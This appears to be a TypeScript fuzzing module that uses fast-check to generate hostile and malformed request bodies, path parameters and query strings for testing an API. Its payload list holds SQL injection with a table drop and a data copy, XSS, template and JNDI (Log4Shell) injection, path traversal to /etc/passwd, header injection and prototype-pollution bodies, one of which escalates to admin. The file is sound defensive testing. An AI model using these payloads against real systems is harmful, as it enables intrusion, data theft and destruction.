import fc from 'fast-check';
import type { Operation } from './operations';
import { sample } from './samples';

/** Strings attackers and broken clients send. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  "$$; COPY users TO '/tmp/x'; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://example.com/a}',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  'null\u0000byte',
  '\r\nSet-Cookie: pwned=1',
  '\u202Eevil.exe',
  '\uFEFF',
  '\uD800',
  '𝕿𝖊𝖘𝖙 🧑🏽‍💻 नमस्ते مرحبا',
  'Z̴̡̛̖͎͍͚̥a̷̢̛̘̦̝l̸͇̤̞̓g̶̱̈́o̵̡̘̊',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9'.repeat(400),
  '   ',
  '',
  'x', // one character: shorter than anything a builder might derive from it
];

export const HUGE_NUMBERS = [
  1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER - 2, 2 ** 31, -(2 ** 31) - 1, 2 ** 63, 1e-300,
  0, -0, -1, 0.5, 31, 1e21,
];

const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype'];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 200, max: 20_000 }).map((length) => 'A'.repeat(length)) },
  { weight: 1, arbitrary: fc.constantFrom(...POLLUTION_KEYS) },
);

const hugeNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(...HUGE_NUMBERS),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** A value of any JSON type: wrong types for every field. */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  hugeNumber,
  hostileString,
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 }),
  fc.dictionary(fc.oneof(hostileString, fc.constantFrom(...POLLUTION_KEYS)), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
);

/** Raw JSON text nested `depth` levels deep (built as text: no recursion in the generator). */
const deepJson = (depth: number, kind: 'array' | 'object') =>
  kind === 'array' ? `${'['.repeat(depth)}1${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** What to send as the body: a JSON value, raw text with a content type, or nothing. */
export type BodyInput =
  | { kind: 'none' }
  | { kind: 'json'; value: unknown }
  | { kind: 'raw'; text: string; contentType: string };

const INVALID_JSON = ['{', '{"a":', '[1,', 'nul', '{"a":1,}', "{'a':1}", '\u0000', '{"a":1}{"b":2}', '1 2', '"'];
const CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/xml',
  'application/json; charset=utf-16',
  'application/octet-stream',
];

/** The operation's valid sample with one field changed: wrong type, hostile, huge, missing. */
function mutatedSample(operation: Operation): fc.Arbitrary<BodyInput> {
  const base = (sample(operation.body) ?? {}) as Record<string, unknown>;
  const fields = Object.keys(operation.body?.properties ?? {});
  if (fields.length === 0) return fc.constant({ kind: 'json', value: base });
  return fc
    .tuple(fc.constantFrom(...fields), fc.option(wrongType, { nil: undefined, freq: 6 }))
    .map(([field, value]) => {
      const body: Record<string, unknown> = { ...base };
      if (value === undefined) delete body[field];
      else body[field] = value;
      return { kind: 'json', value: body };
    });
}

/** Body inputs for an operation, weighted toward "valid but for one thing", which reaches handlers. */
export function bodyInput(operation: Operation, bodyLimit: number): fc.Arbitrary<BodyInput> {
  const base = sample(operation.body) ?? {};
  const baseText = JSON.stringify(base);
  return fc.oneof(
    { weight: 6, arbitrary: mutatedSample(operation) },
    { weight: 1, arbitrary: fc.constant<BodyInput>({ kind: 'none' }) },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((value): BodyInput => ({ kind: 'json', value })) },
    { weight: 1, arbitrary: wrongType.map((value): BodyInput => ({ kind: 'json', value })) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(...INVALID_JSON).map((text): BodyInput => ({ kind: 'raw', text, contentType: 'application/json' })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.integer({ min: 50, max: 50_000 }), fc.constantFrom<'array' | 'object'>('array', 'object'))
        .map(([depth, kind]): BodyInput => ({ kind: 'raw', text: deepJson(depth, kind), contentType: 'application/json' })),
    },
    {
      weight: 1,
      // Prototype pollution: the keys as JSON text (JSON.stringify would drop a real __proto__ key).
      arbitrary: fc
        .constantFrom(
          `{"__proto__":{"polluted":"yes"},${baseText.slice(1)}`,
          `{"constructor":{"prototype":{"polluted":"yes"}},${baseText.slice(1)}`,
          `${baseText.slice(0, -1)}${baseText.length > 2 ? ',' : ''}"__proto__":{"isAdmin":true}}`,
          '{"__proto__":null}',
          '[{"__proto__":{"polluted":"yes"}}]',
        )
        .map((text): BodyInput => ({ kind: 'raw', text, contentType: 'application/json' })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...CONTENT_TYPES), hostileString)
        .map(([contentType, text]): BodyInput => ({ kind: 'raw', text: contentType.includes('form') ? `a=${text}&__proto__[x]=1` : text, contentType })),
    },
    {
      weight: 1,
      // Just over the body limit (and a huge single string inside valid JSON).
      arbitrary: fc.constant<BodyInput>({ kind: 'raw', text: JSON.stringify({ value: 'x'.repeat(bodyLimit) }), contentType: 'application/json' }),
    },
  );
}

/** A path or query value: the sample, another user's id, hostile text, a number, or empty. */
export function paramValue(sampled: string, userIds: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constant(sampled),
    fc.constantFrom(...userIds),
    hostileString,
    hugeNumber.map(String),
    fc.constant(''),
  );
}

/** Extra query string noise: unknown keys, pollution keys, repeated keys, array syntax. */
export const extraQuery: fc.Arbitrary<string> = fc.oneof(
  fc.constant(''),
  fc.constantFrom('__proto__[polluted]=yes', 'constructor[prototype][polluted]=yes', 'a=1&a=2&a=3', 'a[b][c][d]=1', '%E0%A4%A=1', '&&&=&'),
  fc.tuple(hostileString, hostileString).map(([name, value]) => `${percentEncode(name)}=${percentEncode(value)}`),
);

/**
 * Percent-encodes the UTF-8 bytes of any string, lone surrogates included (encodeURIComponent
 * throws on those; a hostile client sends them anyway, as replacement characters or raw bytes).
 */
export function percentEncode(value: string): string {
  let out = '';
  for (const byte of Buffer.from(value, 'utf8')) {
    const char = String.fromCharCode(byte);
    out += /[A-Za-z0-9\-_.~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}
